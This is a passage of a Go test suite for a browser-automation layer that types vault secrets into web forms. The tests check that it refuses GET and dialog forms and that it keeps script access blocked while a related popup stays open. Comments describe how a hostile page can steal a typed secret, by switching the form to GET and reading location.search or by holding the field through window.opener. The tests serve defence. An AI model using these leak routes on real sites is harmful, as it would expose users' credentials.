			err := e.typeText(style, "<<secret:"+c.secret+">>")
			if c.ok != (err == nil) {
				t.Errorf("accept-charset %q, secret %s (%s): %v", c.cs, c.secret, style, err)
			}
		}
	}
}

// TestChromiumGetFormRefused: a value is not typed into a field whose form,
// or a submit button of it, submits with GET or as a dialog: the value
// would be in the next page's URL, where script runs again (a red-team run
// set method=get before typing and read location.search on the next page).
func TestChromiumGetFormRefused(t *testing.T) {
	t.Parallel()
	e := newBrowserEnvWith(t, map[string]fakeSecret{}, []string{"pw"}, envConfig{autoAttach: true})
	e.vault.secrets["pw"] = fakeSecret{value: plainValue, origins: []string{e.site.origin("acme.test")}}
	for _, c := range []struct {
		q  string
		ok bool
	}{
		{"method=get", false},
		{"method=dialog", false},
		{"formmethod=get", false},
		{"method=post&formmethod=post", true},
	} {
		e.navigate(e.site.url("acme.test", "/formto?action=/submit&"+c.q))
		e.cl.eval(e.sid, `document.getElementById('pass').focus()`)
		err := e.typeText("fill", "<<secret:pw>>")
		if c.ok != (err == nil) || !c.ok && !strings.Contains(err.Error(), "submits with GET") {
			t.Errorf("%s: %v", c.q, err)
		}
	}
}

// TestChromiumTaintKeptWhileRelatedPageOpen: a popup of the typed-into
// page's origin, opened before typing, can hold the field itself (a handle
// through window.opener); the taint does not sleep when the typed-into
// document goes until that popup is closed too.
func TestChromiumTaintKeptWhileRelatedPageOpen(t *testing.T) {
	t.Parallel()
	e := newBrowserEnvWith(t, map[string]fakeSecret{}, []string{"pw"}, envConfig{autoAttach: true, taints: NewTaints()})
	e.vault.secrets["pw"] = fakeSecret{value: plainValue, origins: []string{e.site.origin("acme.test")}}
	e.navigate(e.site.url("acme.test", "/login"))
	main := ct0(e)
	e.cl.must(e.sid, "Runtime.evaluate", map[string]any{"expression": `window.open('/plain', 'pop'); 1`, "userGesture": true})
	popup := ""
	deadline := time.Now().Add(15 * time.Second)
	for popup == "" {
		var ts struct {
			TargetInfos []struct{ TargetID, Type, OpenerID string }
		}
		_ = json.Unmarshal(e.cl.must("", "Target.getTargets", nil), &ts)
		for _, ti := range ts.TargetInfos {
			if ti.Type == "page" && ti.OpenerID == main {
				popup = ti.TargetID
			}
		}
		if popup == "" && time.Now().After(deadline) {
			t.Fatal("no popup")
		}
		time.Sleep(10 * time.Millisecond) // polling the browser with a deadline
	}
	e.cl.eval(e.sid, `document.getElementById('pass').focus()`)
	if err := e.typeText("fill", "<<secret:pw>>"); err != nil {
		t.Fatal(err)
	}
	e.navigate(e.site.url("acme.test", "/plain"))
	_, err := e.cl.send(e.sid, "Runtime.getProperties", map[string]any{"objectId": "1.1.1"})
	wantTaintRefusal(t, "script while the popup is open", err)
	e.cl.must("", "Target.closeTarget", map[string]any{"targetId": popup})
	deadline = time.Now().Add(15 * time.Second)
	for {
		_, err := e.cl.send(e.sid, "Runtime.getProperties", map[string]any{"objectId": "1.1.1"})
		if err == nil || !strings.Contains(err.Error(), taintRefusal) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("taint kept after the popup closed")
		}
		time.Sleep(10 * time.Millisecond) // the close is asynchronous in the browser
	}
}
